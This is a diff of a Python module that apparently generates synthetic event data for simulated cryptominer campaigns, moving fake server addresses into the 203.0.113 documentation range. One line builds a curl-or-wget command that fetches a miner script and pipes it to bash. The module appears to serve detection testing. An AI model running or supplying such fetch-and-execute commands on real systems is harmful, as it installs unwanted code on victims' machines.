@@ -92,7 +92,7 @@ def worm(chance: random.Random, host: str, when: int, wallet: str) -> list[Event
 
 def script(chance: random.Random, host: str, when: int, pool: str) -> list[Event]:
     """Campaign B: a pool account and a server of its own for each host; the job is the same but for numbers and names."""
-    server = f"203.0.{chance.randrange(113, 116)}.{chance.randrange(1, 250)}"
+    server = f"203.0.113.{chance.randrange(1, 250)}"
     folder = chance.randbytes(4).hex()
     command = f"(curl -fsSL http://{server}/{folder}/pulsar-worker.sh || wget -qO- http://{server}/w.sh) | bash -s rig-{host}"
     account = "".join(chance.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94))
